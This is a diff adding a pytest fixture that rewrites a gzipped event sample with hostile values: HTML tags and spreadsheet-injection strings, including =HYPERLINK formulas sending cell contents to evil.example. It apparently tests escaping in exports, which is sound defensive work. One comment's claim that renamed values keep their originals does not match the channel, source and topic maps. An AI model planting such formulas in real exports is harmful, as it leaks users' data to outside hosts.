@@ -93,3 +93,44 @@ class ServerThread:
 @pytest.fixture(scope="session")
 def sample_events(tmp_path_factory) -> Path:
     return sample_file(tmp_path_factory.mktemp("sample"))
+
+
+# Hostile text: event values a browser or a spreadsheet would run ---------------
+LINK = '<a href="https://evil.example/">x</a>'
+BOLD = "<b>bold</b>"
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+# each renamed value keeps its original inside, so the renames are one-to-one
+# and every job (rules join on product, subject and status) finds what it did
+CHANNELS = {"chat": LINK, "social": BOLD, "sms": "+1"}
+SOURCES = {"crm": BOLD, "support": "@sum(1+1)"}
+TOPICS = {"billing": LINK, "delivery": '=hyperlink("http://evil.example/","x")'}
+STATUS_PREFIXES = ("-cmd ", "\r", "@SUM(1+1) ")
+
+
+def hostile_sample(src: Path, out: Path) -> Path:
+    """The sample with hostile channel, source, topic and attrs values."""
+    import gzip
+    import json
+    import zlib
+
+    with gzip.open(src, "rt", encoding="utf-8") as fin, gzip.open(out, "wt", encoding="utf-8") as fout:
+        for line in fin:
+            try:
+                ev = json.loads(line)
+            except ValueError:
+                ev = None
+            if isinstance(ev, dict):
+                for key, renames in (("channel", CHANNELS), ("source", SOURCES), ("topic", TOPICS)):
+                    if ev.get(key) in renames:
+                        ev[key] = renames[ev[key]]
+                attrs = ev.get("attrs") if isinstance(ev.get("attrs"), dict) else {}
+                if "product" in attrs:
+                    attrs["product"] = f'=HYPERLINK("http://evil.example/?leak="&A1,"{attrs["product"]}")'
+                if "subject" in attrs:
+                    attrs["subject"] = "\t" + attrs["subject"]
+                if "status" in attrs:  # an order's statuses get different prefixes
+                    st = attrs["status"]
+                    attrs["status"] = STATUS_PREFIXES[zlib.crc32(st.encode()) % len(STATUS_PREFIXES)] + st
+                line = json.dumps(ev) + "\n"
+            fout.write(line)
+    return out
